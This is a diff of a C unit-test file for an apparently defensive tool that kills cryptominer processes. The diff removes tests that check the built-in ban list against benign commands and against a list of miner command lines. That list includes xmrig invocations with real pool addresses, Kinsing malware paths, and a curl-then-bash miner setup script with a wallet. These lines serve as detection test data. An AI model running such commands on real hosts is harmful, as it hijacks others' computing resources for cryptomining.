@@ -1,12 +1,12 @@
 /* SPDX-License-Identifier: BSD-2-Clause */
-/* test_config.c - unit tests for config loading (JSON, YAML, dirs, built-in default). */
+/* test_config.c - unit tests for config loading (JSON, YAML, dirs). The built-in
+ * default's contents are tested by test_default_config.c. */
 #include <stdarg.h>
 #include <stddef.h>
 #include <stdint.h>
 #include <setjmp.h>
 #include <cmocka.h>
 
-#include <ctype.h>
 #include <errno.h>
 #include <fcntl.h>
 #include <ftw.h>
@@ -1260,201 +1260,6 @@ static void test_partial_load(void **state)
 	free(paths[1]);
 }
 
-/* ---- the built-in default ---- */
-
-/* The matcher under test elsewhere, restated naively: case-insensitive, and
- * an occurrence counts only if no word byte touches it on either side. */
-static int is_word_byte(unsigned char c)
-{
-	return isalnum(c) || c == '_';
-}
-
-static int word_hit(const char *line, const char *s)
-{
-	size_t n = strlen(line), m = strlen(s), i, k;
-
-	for (i = 0; i + m <= n; i++) {
-		for (k = 0; k < m; k++)
-			if (tolower((unsigned char)line[i + k]) != tolower((unsigned char)s[k]))
-				break;
-		if (k < m)
-			continue;
-		if ((i == 0 || !is_word_byte((unsigned char)line[i - 1])) &&
-		    (i + m == n || !is_word_byte((unsigned char)line[i + m])))
-			return 1;
-	}
-	return 0;
-}
-
-static void test_word_hit_helper(void **state)
-{
-	(void)state;
-	assert_true(word_hit("/tmp/XMRig -o x", "xmrig"));
-	assert_true(word_hit("xmrig", "xmrig"));
-	assert_true(word_hit("./xmrig-notls", "xmrig"));
-	assert_false(word_hit("xmrigger", "xmrig"));
-	assert_false(word_hit("libxmrig", "xmrig"));
-	assert_false(word_hit("a_xmrig", "xmrig"));
-	assert_true(word_hit("x xmrigger xmrig", "xmrig"));
-	assert_false(word_hit("xmri", "xmrig"));
-}
-
-static const char *const benign[] = {
-	("/opt/conda/bin/python3.11 -m ipykernel_launcher -f /home/jovyan/.local/share/jupyter/"
-	 "runtime/kernel-5f2c1d9e-3b7a-4c1e-9f0a-2d8e6b4c1a7f.json"),
-	"/opt/conda/bin/python /opt/conda/bin/jupyter-lab --ip=0.0.0.0 --port=8888 --no-browser",
-	"/usr/bin/python3 /usr/local/bin/jupyterhub-singleuser --ip=0.0.0.0 --port=8888",
-	"/srv/conda/envs/notebook/bin/python -m ipykernel_launcher -f /tmp/kernel.json",
-	"pip install --user pandas scikit-learn text-mining nltk",
-	"python -m pip install --upgrade pip setuptools wheel",
-	"pip install monero",
-	"conda install -y -c conda-forge xarray dask netcdf4 cryptography",
-	"mamba env create -f environment.yml",
-	"npm install --save express socket.io crypto-js",
-	"node /home/jovyan/app/server.js --port 3000",
-	"git clone https://github.com/jupyterhub/binderhub.git",
-	"git commit -m 'Add data mining notebook for week 3'",
-	"gcc -O2 -Wall -o hash_table hash_table.c -lm",
-	"make -j8 CC=clang",
-	"cargo build --release --bin pool-allocator",
-	"python text_mining.py --corpus data/reviews.csv",
-	"python data-mining-lab.py --input mining_results.csv --miner apriori",
-	"Rscript -e 'library(tm); library(arules)'",
-	"python plot_stratum.py --stratum 3 --formation Morrison",
-	"python stratigraphy.py --stratum-depth 40 --stratum tcp",
-	"java -Xms1G -Xmx2G -jar minecraft_server.1.20.4.jar nogui",
-	"java -jar paper-1.20.4.jar --nogui --world mining_world",
-	"ls /usr/share/doc/monero/",
-	"cat docs/monero-mining-economics.md",
-	"python -c 'import hashlib; print(hashlib.sha256(b\"x\").hexdigest())'",
-	"python gold_miner_game.py --level 2",
-	"python dinosaur_game.py --player t-rex",
-	"tensorboard --logdir runs --bind_all",
-	"dask-worker tcp://10.0.0.5:8786 --nthreads 4 --memory-limit 4GB",
-	"ray start --head --num-cpus=4",
-	"mpirun -np 4 python simulate_pool_boiling.py",
-	"python -m http.server 8000",
-	"curl -sSL https://install.python-poetry.org",
-	"wget https://zenodo.org/record/123/files/data.tar.gz",
-	"python -m pytest -x tests/test_hash_pool.py",
-	"code-server --bind-addr 0.0.0.0:8080 /home/jovyan",
-	"julia --project=. -e 'using Pkg; Pkg.instantiate()'",
-	"R --no-save -f mining_regression.R",
-	"nvidia-smi --query-gpu=utilization.gpu --format=csv",
-	"jupyter nbconvert --to html Crypto_Mining_Energy_Use.ipynb",
-	"python blockchain_course/proof_of_work.py --difficulty 4 --nonce-pool 8",
-	"ssh -p 2222 student@minecraft.example.org",
-	"python -m spacy download en_core_web_sm",
-	"htop",
-	"/bin/bash -l",
-};
-
-static const char *const miners[] = {
-	"sh -c 'sleep 1 && echo nomine-selftest-7d3f9c1a'",
-	"./xmrig -o pool.supportxmr.com:443 -u 44AFFq5kSiGBoZ4NMDwYtN18 -k --tls --donate-level=1",
-	"/tmp/.x/xmr-stak-rx --currency monero -o xmrpool.eu:3333 -u WALLET -p x",
-	"cpuminer-opt -a yespower -o stratum+tcp://yespower.eu.mine.zpool.ca:6234 -u W -p c=BTC",
-	"./minerd -a cryptonight -o stratum+tcp://xmr.pool.minergate.com:45560 -u me@example.com",
-	"cgminer -o stratum+tcp://stratum.antpool.com:3333 -u worker1 -p x",
-	"bfgminer -S all -o stratum+tcp://btc.f2pool.com:3333 -u user.001 -p x",
-	"ethminer -P stratum1+tcp://0xWALLET.rig@eu1.ethermine.org:4444",
-	"ethminer -P stratum2+tcp://WALLET.rig@eth-eu1.nanopool.org:9999",
-	"ccminer -a lyra2v2 -o stratum+tcp://hub.miningpoolhub.com:12018 -u user.worker -p x",
-	"./nheqminer -l eu1-zcash.flypool.org:3333 -u t1WALLET.rig",
-	"./nbminer -a ethash -o stratum+ssl://eth.2miners.com:12020 -u WALLET.rig",
-	"./lolMiner --algo ETCHASH --pool etc.2miners.com:1010 --user WALLET.rig",
-	"./PhoenixMiner -pool ssl://eu1.ethermine.org:5555 -wal WALLET.rig",
-	"./nanominer config.ini",
-	"/opt/gminer/miner --algo kawpow --server rvn.2miners.com:6060 --user WALLET.rig",
-	"./teamredminer -a kawpow -o stratum+tcp://rvn.woolypooly.com:55555 -u WALLET.rig -p x",
-	"./SRBMiner-MULTI --algorithm randomx --pool gulf.moneroocean.stream:10128 --wallet W",
-	"./minergate-cli -user me@example.com -xmr 4",
-	"/tmp/kinsing",
-	"/tmp/kdevtmpfsi",
-	("curl -s -L https://raw.githubusercontent.com/MoneroOcean/xmrig_setup/master/"
-	 "setup_moneroocean_miner.sh"),
-	"bash setup_moneroocean_miner.sh 44AFFq5kSiGBoZ4NMDwYtN18",
-	"./x --randomx-mode=fast --randomx-1gb-pages --cpu-max-threads-hint=75 -o mine.c3pool.com:13333",
-	"./xmrig -o pool.hashvault.pro:443 --tls -u WALLET",
-	"./sysupdate -o stratum+tls://de.monero.herominers.com:1111 -u WALLET",
-	"./xmrig -o rx.unmineable.com:3333 -u DOGE:WALLET.rig",
-	"./xmrig --nicehash -o randomxmonero.auto.nicehash.com:9200 -u BTCADDR",
-	"./xmrig -o pool.minexmr.com:4444 -u WALLET",
-	"cpuminer -a scrypt -o stratum+tcp://prohashing.com:3333 -u user -p a=scrypt",
-	"./xmrig -o xmr-eu1.nanopool.org:14433 --tls -u WALLET",
-	"./xmrig -o stratum+tcp://randomx.zergpool.com:4453 -u WALLET -p c=XMR",
-	"./xmrig -o pool.monerohash.com:3333 -u WALLET",
-	"cpuminer -a yespower -o stratum+tcp://yespower.mining-dutch.nl:9987 -u user.worker",
-};
-
-static void test_builtin_loads(void **state)
-{
-	struct config c;
-	char err[CONFIG_ERR_MAX] = "";
-	size_t i;
-	int selftest = 0;
-
-	(void)state;
-	if (config_load_builtin(&c, err, sizeof(err)))
-		fail_msg("built-in config: %s", err);
-	assert_int_equal(c.nfiles, 1);
-	assert_string_equal(c.files[0], CONFIG_BUILTIN_NAME);
-	assert_true(c.nbanned >= 40);
-	assert_int_equal(c.nallowed, 0);
-	assert_int_equal(c.nallowed_exes, 0);   /* the RandomX settings stay defaults */
-	assert_int_equal(c.monero_threshold, 0);
-	assert_true(c.monero_window_s == 0);
-	for (i = 0; i < c.nbanned; i++) {
-		assert_int_equal(c.banned[i].mode, CONFIG_WORD);
-		assert_ptr_equal(c.banned[i].at.file, c.files[0]);
-		assert_true(c.banned[i].at.line > 1);
-		selftest |= !strcmp(c.banned[i].bytes, "nomine-selftest-7d3f9c1a");
-	}
-	assert_true(selftest);
-	config_free(&c);
-}
-
-static void test_builtin_spares_benign(void **state)
-{
-	struct config c;
-	char err[CONFIG_ERR_MAX] = "";
-	size_t i, k;
-
-	(void)state;
-	assert_int_equal(config_load_builtin(&c, err, sizeof(err)), 0);
-	for (k = 0; k < sizeof(benign) / sizeof(benign[0]); k++)
-		for (i = 0; i < c.nbanned; i++)
-			if (word_hit(benign[k], c.banned[i].bytes))
-				fail_msg("%s (line %d) kills benign: %s", c.banned[i].bytes,
-					 c.banned[i].at.line, benign[k]);
-	config_free(&c);
-}
-
-static void test_builtin_hits_miners(void **state)
-{
-	struct config c;
-	char err[CONFIG_ERR_MAX] = "";
-	size_t i, k;
-	int hit;
-
-	(void)state;
-	assert_int_equal(config_load_builtin(&c, err, sizeof(err)), 0);
-	for (i = 0; i < c.nbanned; i++) {
-		for (hit = 0, k = 0; k < sizeof(miners) / sizeof(miners[0]); k++)
-			hit |= word_hit(miners[k], c.banned[i].bytes);
-		if (!hit)
-			fail_msg("%s (line %d) hits no miner command line", c.banned[i].bytes,
-				 c.banned[i].at.line);
-	}
-	for (k = 0; k < sizeof(miners) / sizeof(miners[0]); k++) {
-		for (hit = 0, i = 0; i < c.nbanned; i++)
-			hit |= word_hit(miners[k], c.banned[i].bytes);
-		if (!hit)
-			fail_msg("nothing kills: %s", miners[k]);
-	}
-	config_free(&c);
-}
-
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -1481,10 +1286,6 @@ int main(void)
 		cmocka_unit_test_setup_teardown(test_configmap_layout, mktmp, rmtmp),
 		cmocka_unit_test_setup_teardown(test_load_errors, mktmp, rmtmp),
 		cmocka_unit_test_setup_teardown(test_partial_load, mktmp, rmtmp),
-		cmocka_unit_test(test_word_hit_helper),
-		cmocka_unit_test(test_builtin_loads),
-		cmocka_unit_test(test_builtin_spares_benign),
-		cmocka_unit_test(test_builtin_hits_miners),
 	};
 
 	return cmocka_run_group_tests_name("config", tests, NULL, NULL);
